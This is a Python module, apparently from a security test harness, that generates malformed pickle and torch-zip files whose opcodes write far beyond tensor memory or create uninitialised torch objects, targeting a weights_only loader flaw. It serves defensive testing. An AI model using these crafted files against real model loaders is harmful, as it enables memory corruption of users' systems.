"""Container opcodes that write into tensors and their memory, and extension objects that nothing
has initialised. `weights_only` allowed them in torch before 2.10 (CVE-2026-24747); some were
reported later.
"""

from __future__ import annotations

from typing import Any

from harness.hostile import Family
from harness.hostile.archives import tensor, torch_zip
from harness.hostile.opcodes import Global, Raw, Storage, pickled, push
from harness.records.trials import Harm

onto = Family("onto-tensors", "torch-zip", Harm.LIE)

_FAR = 1 << 40
_MEMORY = Storage(("storage", Global("torch", "FloatStorage"), "0", "cpu", 6))


def _set(target: Any, key: Any, value: Any) -> Raw:
    """Return SETITEM of one key on a value."""
    return Raw(push(target) + push(key) + push(value) + b"s")


def _set_many(target: Any, *pairs: Any) -> Raw:
    """Return SETITEMS of keys with their values on a value."""
    return Raw(push(target) + b"(" + b"".join(map(push, pairs)) + b"u")


def _append(target: Any, *values: Any) -> Raw:
    """Return APPENDS of values to a value."""
    return Raw(push(target) + b"(" + b"".join(map(push, values)) + b"e")


def _new(module: str, name: str) -> Raw:
    """Return NEWOBJ of a class without arguments, and no BUILD behind it."""
    return Raw(push(Global(module, name)) + push(()) + b"\x81")


onto.table(
    "{}.bin",
    (
        (
            "setitem-tensor-beyond",
            "SETITEM writes far behind a tensor's end",
            _set(tensor(), _FAR, 1.0),
        ),
        ("setitem-tensor-before", "SETITEM writes far before a tensor", _set(tensor(), -_FAR, 1.0)),
        (
            "setitems-tensor",
            "SETITEMS writes into a tensor",
            _set_many(tensor(), 0, 1.0, _FAR, 2.0),
        ),
        ("setitem-memory", "SETITEM writes into a tensor's memory", _set(_MEMORY, _FAR, 1.0)),
        (
            "appends-tensor",
            "APPENDS is used on a tensor as if it were a list",
            _append(tensor(), 1.0, 2.0),
        ),
        (
            "appends-memory",
            "APPENDS is used on a tensor's memory as if it were a list",
            _append(_MEMORY, 1.0, 2.0),
        ),
        (
            "newobj-graph",
            "NEWOBJ makes an empty object of a C++ class of torch",
            _new("torch._C", "Graph"),
        ),
        (
            "newobj-tensor",
            "NEWOBJ makes a tensor that nothing has initialised",
            _new("torch", "FloatTensor"),
        ),
        (
            "newobj-memory",
            "NEWOBJ makes a storage that nothing has initialised",
            _new("torch", "UntypedStorage"),
        ),
    ),
    lambda value: torch_zip({"a": value}),
)
bare = Family("onto-tensors", "pickle", Harm.LIE)
bare.table(
    "{}.pkl",
    (
        (
            "newobj-graph",
            "NEWOBJ makes an empty object of a C++ class of torch",
            _new("torch._C", "Graph"),
        ),
    ),
    pickled,
)
